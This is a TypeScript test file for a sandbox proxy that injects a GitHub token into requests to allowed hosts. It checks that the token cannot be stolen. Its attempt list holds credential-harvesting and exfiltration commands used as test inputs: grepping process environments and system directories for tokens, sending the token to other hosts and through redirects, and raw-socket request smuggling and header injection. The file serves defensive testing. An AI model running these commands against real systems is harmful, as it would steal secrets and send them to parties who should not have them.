/** A command tries to get the credential that the proxy puts into its requests, or to have it sent elsewhere. */
import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import test from "ava";
import { createTestInternet, type TestInternet } from "../testing/test-internet.js";

// Starting many sandboxes takes long on a small machine.
test.beforeEach((t) => t.timeout(120_000));

/** Random: the sources of this test are visible inside. */
const token = `ghp_${randomBytes(18).toString("hex")}`;
const encoded = Buffer.from(`x:${token}`).toString("base64");

let world: TestInternet;
test.before(async () => {
  world = await createTestInternet({
    "api.test": ["93.184.216.34"],
    "sub.api.test": ["93.184.216.34"],
    "other.test": ["93.184.216.35"],
    "clear.test": ["93.184.216.36"],
  });
});
test.after.always(() => world[Symbol.asyncDispose]());

const options = [
  ...["--log-level", "error", "--dns-servers", "8.8.8.8"],
  ...["--allow-domains", "api.test,other.test,clear.test,http://api.test:8080"],
  ...["--inject-credential", "GITHUB_TOKEN=api.test,http://clear.test"],
];
const environment = () => {
  const { authority, scratch } = world;
  const path = join(scratch, "world-ca.pem");
  writeFileSync(path, authority);
  return { GITHUB_TOKEN: token, GH_TOKEN: token, NODE_EXTRA_CA_CERTS: path };
};

/** Programs inside do not trust the authority of the test internet. */
const curl = "curl -sSk -m 20";
const bearer = `-H "Authorization: Bearer $GITHUB_TOKEN"`;
/** Sends heads on one TLS connection and prints what comes back. */
const tls = (name: string, ...heads: readonly string[]) =>
  `/usr/bin/python3 -c 'import os, socket, ssl; t=os.environ["GITHUB_TOKEN"]; c=ssl.create_default_context().wrap_socket(socket.create_connection(("93.184.216.34", 443)), server_hostname="${name}"); c.settimeout(20); c.sendall("${heads.join("")}".replace("TOKEN", t).encode()); f=c.makefile("rb"); print(f.read().decode())'`;
const head = (host: string, more = "", path = "/") =>
  `GET ${path} HTTP/1.1\\r\\nHost: ${host}\\r\\nAuthorization: Bearer TOKEN\\r\\n${more}\\r\\n`;

const granted: ReadonlyArray<readonly [title: string, line: string, gets: string]> = [
  ["a header over decrypted TLS", `${curl} ${bearer} https://api.test/`, `Bearer ${token}`],
  ["user and password", `${curl} -u "x:$GITHUB_TOKEN" https://api.test/`, `Basic ${encoded}`],
  [
    "past the proxy variables",
    `${curl} --noproxy '*' ${bearer} https://api.test/`,
    `Bearer ${token}`,
  ],
  [
    "with a body",
    `${curl} ${bearer} -d "$GITHUB_TOKEN" https://api.test/`,
    `"authorization":"Bearer ${token}"`,
  ],
  ["plain http where the option says so", `${curl} ${bearer} http://clear.test/`, token],
  [
    "two requests on one connection",
    tls("api.test", head("api.test"), head("api.test", "Connection: close\\r\\n", "/2")),
    '"url":"/2"',
  ],
];

/** Nothing that the command sees, or that an origin receives, may have the token. */
const attempts: ReadonlyArray<readonly [title: string, line: string, gets: RegExp]> = [
  ["variables", "env", /GITHUB_TOKEN=ghp_\w{36}\n/],
  [
    "another variable with the same value",
    'test "$GH_TOKEN" = "$GITHUB_TOKEN" && echo same',
    /same/,
  ],
  [
    "processes",
    "grep -ahoE 'ghp_[A-Za-z0-9]{36}' /proc/[0-9]*/environ /proc/[0-9]*/cmdline",
    /ghp_/,
  ],
  ["files of the run", "grep -rsahoE 'ghp_[A-Za-z0-9]{36}' /run /tmp /etc 2>&1; echo done", /done/],
  ["another host", `${curl} ${bearer} https://other.test/`, /"host":"other.test"/],
  ["a subdomain", `${curl} ${bearer} https://sub.api.test/`, /"host":"sub.api.test"/],
  [
    "a redirect to another host",
    `${curl} -L --location-trusted ${bearer} "https://api.test/redirect?to=https://other.test/after"`,
    /"url":"\/after"/,
  ],
  [
    "a redirect to plain http",
    `${curl} -L --location-trusted ${bearer} "https://api.test/redirect?to=http://api.test/after"`,
    /"secure":false/,
  ],
  ["plain http", `${curl} ${bearer} http://api.test/`, /"secure":false/],
  ["plain http on another port", `${curl} ${bearer} http://api.test:8080/`, /"secure":false/],
  ["https to a host for plain http", `${curl} ${bearer} https://clear.test/`, /"secure":true/],
  ["the path and query", `${curl} "https://api.test/$GITHUB_TOKEN?t=$GITHUB_TOKEN"`, /\?t=ghp_/],
  ["the body", `${curl} -d "$GITHUB_TOKEN" https://api.test/`, /"body":"ghp_/],
  ["another header", `${curl} -H "X-Meta: $GITHUB_TOKEN" https://api.test/`, /"x-meta":"ghp_/],
  ["the user agent", `${curl} -A "$GITHUB_TOKEN" https://api.test/`, /"user-agent":"ghp_/],
  ["TRACE", `${curl} -X TRACE ${bearer} https://api.test/`, /deny-trace/],
  ["a response page of the proxy", `${curl} ${bearer} http://denied.test/ghp_`, /deny-default/],
  [
    "a Host other than the TLS name",
    `${curl} ${bearer} -H "Host: other.test" https://api.test/`,
    /deny-host-mismatch/,
  ],
  [
    "a TLS name other than the Host",
    `${curl} ${bearer} -H "Host: api.test" https://other.test/`,
    /"host":"api.test".*"authorization":"Bearer ghp_/,
  ],
  [
    "another host on the same connection",
    tls("api.test", head("api.test", "", "/first"), head("other.test", "Connection: close\\r\\n")),
    /deny-host-mismatch/,
  ],
  [
    "a second request hidden in a body",
    tls("api.test", head("api.test", "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n")),
    /400 Bad Request/,
  ],
  [
    "a second line in the header",
    tls("api.test", head("api.test", "X-A: b\\nX-Api-Key: TOKEN\\r\\n")),
    /400 Bad Request/,
  ],
  [
    "a tunnel without TLS",
    `/usr/bin/python3 -c 'import socket; c=socket.create_connection(("127.0.0.1", 3128)); c.settimeout(20); c.sendall(b"CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test:443\\r\\n\\r\\n"); c.recv(999); c.sendall(b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"); print("got", c.recv(999))'`,
    /got b''|got b'\\x15/,
  ],
];

const separator = "\u001e";
const outputs = async (lines: readonly string[], more: readonly string[] = []) => {
  const script = lines.map((line) => `( ${line} ) 2>&1; printf '${separator}'`).join("\n");
  const run = await world.awf([...options, ...more, "--", script], { environment: environment() });
  return { ...run, each: run.stdout.split(separator) };
};

test("requests to the listed hosts get the credential", async (t) => {
  const { each, stderr } = await outputs(granted.map(([, line]) => line));
  for (const [index, [title, , gets]] of granted.entries())
    t.true(each[index]?.includes(gets), `${title}: ${each[index]} ${stderr}`);
});

test("no attempt gets the credential, and no log, error or further request has it", async (t) => {
  const logs = join(world.scratch, "logs");
  const lines = [...granted, ...attempts].map(([, line]) => line);
  const run = await outputs(lines, ["--proxy-logs-dir", logs, "--log-level", "debug"]);
  for (const [index, [title, , gets]] of attempts.entries()) {
    const output = run.each[granted.length + index] ?? "";
    t.regex(output, gets, title);
    const isFirstAnswer = title === "another host on the same connection";
    const own = isFirstAnswer ? output.slice(output.indexOf("deny-host-mismatch")) : output;
    t.false(own.includes(token) || own.includes(encoded), `${title}: ${output}`);
  }
  t.false(run.stderr.includes(token), run.stderr);
  const files = readdirSync(logs).map((name) => readFileSync(join(logs, name), "utf8"));
  t.true(files.length >= 2);
  for (const text of files) t.false(text.includes(token) || text.includes(encoded));
});

test("an origin whose certificate is not trusted gets nothing", async (t) => {
  const { NODE_EXTRA_CA_CERTS: _, ...untrusting } = environment();
  const line = `${curl} -o /dev/null -w '%{http_code}' ${bearer} https://api.test/untrusted`;
  const { stdout } = await world.awf([...options, "--", line], { environment: untrusting });
  t.is(stdout, "502");
  t.false(world.seen.some((report) => report.kind === "request" && report.url === "/untrusted"));
});

test("a value that no header may have is refused without showing it", async (t) => {
  const wrong = { ...environment(), GITHUB_TOKEN: "line-one\nline-two" };
  const { code, stderr } = await world.awf([...options, "--", "true"], { environment: wrong });
  t.is(code, 1);
  t.regex(stderr, /The value of the credential GITHUB_TOKEN cannot be sent/);
  t.notRegex(stderr, /line-/);
});

test("a variable that is not set is refused", async (t) => {
  const { code, stderr } = await world.awf([...options, "--", "true"]);
  t.is(code, 1);
  t.regex(stderr, /--inject-credential GITHUB_TOKEN: the variable is not set/);
});

test("other HTTPS is not decrypted, and --no-bump exempts a domain", async (t) => {
  const issuer = (host: string) =>
    `echo | openssl s_client -connect 93.184.216.34:443 -servername ${host} 2>/dev/null | openssl x509 -noout -issuer`;
  const lines = ["api.test", "other.test"].map(issuer).join("; ");
  const shown = async (...more: readonly string[]) => {
    const all = [...options, ...more, "--", lines];
    const { stdout } = await world.awf(all, { environment: environment() });
    return [...stdout.matchAll(/AWF Session CA|World CA/g)].map(([name]) => name);
  };
  t.deepEqual(await shown(), ["AWF Session CA", "World CA"]);
  t.deepEqual(await shown("--ssl-bump"), ["AWF Session CA", "AWF Session CA"]);
  t.deepEqual(await shown("--ssl-bump", "--no-bump", "other.test"), ["AWF Session CA", "World CA"]);
});
